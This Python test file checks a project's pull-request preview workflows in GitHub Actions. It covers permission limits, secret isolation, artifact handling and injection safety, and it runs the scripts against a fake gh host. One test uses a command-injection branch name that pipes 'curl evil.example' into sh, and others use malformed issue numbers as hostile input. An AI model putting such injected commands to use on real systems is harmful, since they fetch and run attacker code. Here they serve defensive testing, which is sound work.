"""The preview of a pull request: what its two workflows may do, and their scripts, run as they stand against a feigned host."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.archives import REPOSITORY
from tests.test_taking import HEAD, packed, pull
from tests.test_workflows import jobs

from archive import taking

FILES = {name: REPOSITORY / f".github/workflows/{name}.yml" for name in ("preview", "preview-post")}
BUILD, TAKE, POST, DEPLOY = (
    jobs()[name] for name in ("preview/build", "preview-post/take", "preview-post/post", "preview-post/deploy")
)
GH = """#!/bin/sh
printf '%s\\0' "$*" >> "$HOME/asked"
case "$*" in
  *"/artifacts/9/zip"*) cat "$HOME/preview.zip" ;;
  *"/artifacts "*) cat "$HOME/sent" ;;
  *"/comments?"*) cat "$HOME/mine" ;;
  *"-X PATCH "*|*"-X POST "*) exit "${POSTED:-0}" ;;
  *"/pulls/12 "*) echo "$NOW" ;;
  *"/pulls "*) cat "$HOME/pulls" ;;
  *) exit 1 ;;
esac
"""


def triggers(name: str) -> dict[str, Any]:
    data = yaml.safe_load(FILES[name].read_text("utf-8"))
    return dict(data[True])  # YAML has `on` for a word of its own


def uses(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [step["with"] for step in job["steps"] if f"/{action}@" in step.get("uses", "")]


def script(job: dict[str, Any], name: str) -> dict[str, Any]:
    (step,) = [step for step in job["steps"] if step.get("name") == name]
    assert isinstance(step, dict)
    return step


# --- what they may do


def test_what_runs_a_strangers_code_may_write_nothing_and_knows_nothing() -> None:
    assert triggers("preview") == {"pull_request": None}
    assert yaml.safe_load(FILES["preview"].read_text("utf-8"))["permissions"] == {}
    assert BUILD["permissions"] == {"contents": "read"}
    text = FILES["preview"].read_text("utf-8")
    assert "secrets." not in text
    assert "github.token" not in text
    assert "environment:" not in text


def test_it_keeps_one_artifact_for_a_bounded_time() -> None:
    (kept,) = uses(BUILD, "upload-artifact")
    assert (kept["name"], kept["retention-days"]) == ("preview", 14)
    assert uses(BUILD, "checkout")[0]["fetch-depth"] == 0, "the summary compares with what was before"
    said = "\n".join(step.get("run", "") for step in BUILD["steps"])
    assert '.venv/bin/archive diff --format markdown "$base"' in said
    assert "make site\n" in said


def test_what_has_rights_runs_nothing_of_what_was_sent() -> None:
    assert triggers("preview-post") == {"workflow_run": {"workflows": ["preview"], "types": ["completed"]}}
    assert [uses(job, "checkout") for job in (TAKE, POST, DEPLOY)] == [[{"persist-credentials": False}], [], []], (
        "the main branch as it stands, and no commit that an event names"
    )
    assert TAKE["permissions"] == {"actions": "read", "contents": "read", "pull-requests": "read"}
    assert POST["permissions"] == {"pull-requests": "write"}
    assert DEPLOY["permissions"] == {}
    # Nobody's words become a script's: what is put into one is put into its environment.
    for job in (TAKE, POST, DEPLOY):
        assert not [step["run"] for step in job["steps"] if "${{" in step.get("run", "")]
    secrets = [name for name, job in jobs().items() if name.startswith("preview") and "secrets." in json.dumps(job)]
    assert secrets == ["preview-post/deploy"]
    assert DEPLOY["environment"]["name"] == "preview"


def test_a_job_goes_on_only_with_what_was_taken() -> None:
    assert TAKE["if"].startswith("github.event.workflow_run.event == 'pull_request' && ")
    assert (POST["needs"], POST["if"]) == ("take", "needs.take.outputs.number != ''")
    assert (DEPLOY["needs"], DEPLOY["if"]) == ("take", "needs.take.outputs.address != ''")
    sent = {kept["name"]: kept["path"] for kept in uses(TAKE, "upload-artifact")}
    assert sent == {"comment": "${{ runner.temp }}/taken/comment.md", "site": "${{ runner.temp }}/taken/site"}
    assert [kept["retention-days"] for kept in uses(TAKE, "upload-artifact")] == [1, 1]
    assert [uses(job, "download-artifact")[0]["name"] for job in (POST, DEPLOY)] == ["comment", "site"]
    # No command: no address, so nothing is put anywhere.
    assert script(TAKE, "Take what was sent")["env"]["PREVIEW_URL"] == (
        "${{ vars.PREVIEW_COMMAND != '' && vars.PREVIEW_URL || '' }}"
    )
    (put,) = [step for step in DEPLOY["steps"] if "run" in step]
    assert (put["run"], put["env"]["PREVIEW_COMMAND"]) == (
        'bash -eo pipefail -c "$PREVIEW_COMMAND"', "${{ vars.PREVIEW_COMMAND }}",
    )  # fmt: skip


def test_both_sides_have_the_same_mark_and_caps() -> None:
    take, post = script(TAKE, "Take what was sent")["run"], script(POST, "Post")["run"]
    assert post.count(taking.MARK) == 2
    assert f'"$size" -gt {taking.MOST_ZIP} ' in take
    assert f"head -c {taking.MOST_ZIP + 1} " in take
    assert taking.MOST_LETTERS * 4 <= 262144


# --- the scripts


@dataclass(frozen=True)
class Done:
    status: int
    said: str
    asked: list[str]
    outputs: str


class Host:
    """A machine of the host, with a feigned `gh`, in a checkout of the main branch."""

    def __init__(self, root: Path, project: Path = REPOSITORY) -> None:
        self.root, self.home, self.temp, self.project = root, root / "home", root / "temp", project
        for place in (self.home, self.temp, root / "bin"):
            place.mkdir()
        (root / "bin/gh").write_text(GH, "utf-8")
        (root / "bin/gh").chmod(0o755)
        (root / "bin/python3").symlink_to(sys.executable)
        for program in ("cat", "head", "stat"):
            (root / "bin" / program).symlink_to(str(shutil.which(program)))
        event = {
            "repository": {"full_name": "owner/archive"},
            "workflow_run": {"id": 7, "head_sha": HEAD, "head_repository": {"full_name": "stranger/fork"}},
        }
        self.write("event", json.dumps(event))
        self.write("sent", "9 1000 2031-02-09T10:00:00Z\n")
        self.write("pulls", json.dumps([pull()]))
        self.write("mine", "")
        packed(self.home)

    def write(self, name: str, words: str) -> None:
        (self.home / name).write_text(words, "utf-8")

    def run(self, step: dict[str, Any], **environment: str) -> Done:
        (self.temp / "output").write_text("", "utf-8")
        (self.home / "asked").unlink(missing_ok=True)
        done = subprocess.run(
            ["/bin/bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=self.project,
            env={
                "PATH": str(self.root / "bin"), "HOME": str(self.home), "RUNNER_TEMP": str(self.temp), "RUN": "7",
                "GITHUB_OUTPUT": str(self.temp / "output"), "GITHUB_EVENT_PATH": str(self.home / "event"), "NOW": HEAD,
                "GITHUB_REPOSITORY": "owner/archive", "GITHUB_RUN_ID": "8", "GITHUB_SERVER_URL": "https://git.example",
                "OWNER": "stranger", "BRANCH": "sua-cau", "HEAD": HEAD, "NUMBER": "12", **environment,
            },
            capture_output=True, text=True, check=False,
        )  # fmt: skip
        asked = (self.home / "asked").read_text("utf-8").split("\0") if (self.home / "asked").exists() else []
        return Done(done.returncode, done.stdout + done.stderr, asked[:-1], (self.temp / "output").read_text("utf-8"))

    def comment(self, words: str = f"{taking.MARK}\nTóm tắt\n") -> Path:
        (self.temp / "comment").mkdir()
        (self.temp / "comment/comment.md").write_text(words, "utf-8")
        return self.temp / "comment/comment.md"


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


def test_what_was_sent_is_fetched_held_and_handed_on(host: Host) -> None:
    branch = 'x";curl evil.example|sh;$(id)`id`'
    done = host.run(script(TAKE, "Take what was sent"), BRANCH=branch)
    assert (done.status, done.outputs) == (0, "number=12\naddress=\n"), done.said
    assert f"-f head=stranger:{branch} " in done.asked[1]
    assert (host.temp / "taken/comment.md").read_text("utf-8").startswith(taking.MARK)


@pytest.mark.parametrize(
    ("why", "sent", "status"),
    [("nothing was kept", "", 0), ("too much was kept", f"9 {taking.MOST_ZIP + 1} 2031-02-09T10:00:00Z\n", 1)],
)
def test_what_is_not_there_or_too_large_is_not_fetched(host: Host, why: str, sent: str, status: int) -> None:
    host.write("sent", sent)
    done = host.run(script(TAKE, "Take what was sent"))
    assert (done.status, done.outputs, len(done.asked)) == (status, "", 1), done.said


@pytest.mark.parametrize("name", ["sent", "pulls", "preview.zip"])
def test_a_host_that_does_not_answer_ends_it(host: Host, name: str) -> None:
    (host.home / name).unlink()
    done = host.run(script(TAKE, "Take what was sent"))
    assert (done.status != 0, done.outputs) == (True, ""), done.said


def test_the_first_comment_is_made_and_later_ones_take_its_place(host: Host) -> None:
    file = host.comment()
    done = host.run(script(POST, "Post"))
    assert done.status == 0, done.said
    assert done.asked[-1] == f"api -X POST repos/owner/archive/issues/12/comments -F body=@{file} --silent"
    host.write("mine", "41\n42\n")
    done = host.run(script(POST, "Post"))
    assert done.asked[-1] == f"api -X PATCH repos/owner/archive/issues/comments/41 -F body=@{file} --silent"
    looked = next(one for one in script(POST, "Post")["run"].split("mine=$(") if "comments?" in one)
    assert 'select(.user.login == "github-actions[bot]" and .user.type == "Bot")' in looked
    assert f'startswith("{taking.MARK}")' in looked


def test_a_pull_request_that_has_moved_on_is_left_to_its_newest_run(host: Host) -> None:
    host.comment()
    done = host.run(script(POST, "Post"), NOW="f" * 40)
    assert (done.status, len(done.asked), "has moved on" in done.said) == (0, 1, True), done.said


def test_a_comment_that_cannot_be_posted_fails_the_run(host: Host) -> None:
    host.comment()
    assert host.run(script(POST, "Post"), POSTED="1").status == 1


@pytest.mark.parametrize("number", ["", "0", "12/../13", "12\n13", "-1", "x", "12 --jq .", "9" * 11])
def test_what_is_no_number_is_asked_of_nobody(host: Host, number: str) -> None:
    host.comment()
    done = host.run(script(POST, "Post"), NUMBER=number)
    assert (done.status, done.asked) == (1, []), done.said


@pytest.mark.parametrize("why", ["a link", "none", "too large", "no mark"])
def test_what_is_no_comment_is_not_posted(host: Host, why: str) -> None:
    file = host.comment(
        "x\n" if why == "no mark" else f"{taking.MARK}\n" + ("x" * 262144 if why == "too large" else "")
    )
    if why in {"a link", "none"}:
        file.rename(file.with_name("elsewhere"))
    if why == "a link":
        file.symlink_to("elsewhere")
    done = host.run(script(POST, "Post"))
    assert (done.status, done.asked) == (1, []), done.said


def test_the_hosts_command_gets_number_address_and_secret(host: Host) -> None:
    (step,) = [step for step in DEPLOY["steps"] if "run" in step]
    (host.root / "bin/bash").symlink_to("/bin/bash")
    done = host.run(
        step, PREVIEW_COMMAND='echo "$NUMBER $ADDRESS $PREVIEW_TOKEN"; false | cat; echo on',
        PREVIEW_TOKEN="t", ADDRESS="https://pr-12.preview.example/",
    )  # fmt: skip
    assert (done.status, done.said) == (1, "12 https://pr-12.preview.example/ t\n")
    assert os.environ.get("PREVIEW_TOKEN") is None


# --- what is built


FAKE = """#!/bin/sh
echo "$*" >> "$HOME/asked"
case "$*" in
  *"archive check") echo "docs/vi/a.md:1:1: DV605"; exit "${CHECKED:-0}" ;;
  *"diff "*) echo "## Tóm tắt" ;;
esac
"""


@pytest.mark.parametrize(("checked", "status"), [("0", 0), ("1", 0), ("70", 70)])
def test_a_summary_and_the_findings_are_kept_whatever_is_wrong(tmp_path: Path, checked: str, status: int) -> None:
    work, temp = tmp_path / "work", tmp_path / "temp"
    (work / ".venv/bin").mkdir(parents=True)
    temp.mkdir()
    (work / ".venv/bin/archive").write_text(
        FAKE.replace('"$*" >>', '"archive $*" >>').replace('"$*" in', '"archive $*" in')
    )
    (work / "make").write_text("#!/bin/sh\n")
    for program in (".venv/bin/archive", "make"):
        (work / program).chmod(0o755)
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@y.example", "-c", "commit.gpgsign=false"]
    for arguments in (["init", "-q", "-b", "main"], ["commit", "-q", "--allow-empty", "-m", "x"],
                      ["update-ref", "refs/remotes/origin/main", "HEAD"], ["commit", "-q", "--allow-empty", "-m", "y"]):  # fmt: skip
        subprocess.run([*git, *arguments], cwd=work, check=True)
    base = subprocess.run([*git, "rev-parse", "HEAD^"], cwd=work, check=True, capture_output=True, text=True).stdout
    step = script(BUILD, "What changes, and what is wrong")
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=work,
        env={"PATH": f"{work}:{os.environ['PATH']}", "HOME": str(tmp_path), "RUNNER_TEMP": str(temp), "NUMBER": "12",
             "GITHUB_BASE_REF": "main", "CHECKED": checked},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == status, done.stderr
    kept = {path.name: path.read_text("utf-8") for path in (temp / "preview").iterdir()}
    assert (kept["number"], kept["findings.txt"]) == ("12\n", "docs/vi/a.md:1:1: DV605\n")
    if status == 0:
        assert kept["summary.md"] == "## Tóm tắt\n"
        asked = (tmp_path / "asked").read_text("utf-8").splitlines()
        assert asked == ["archive check", f"archive diff --format markdown {base.strip()}"]
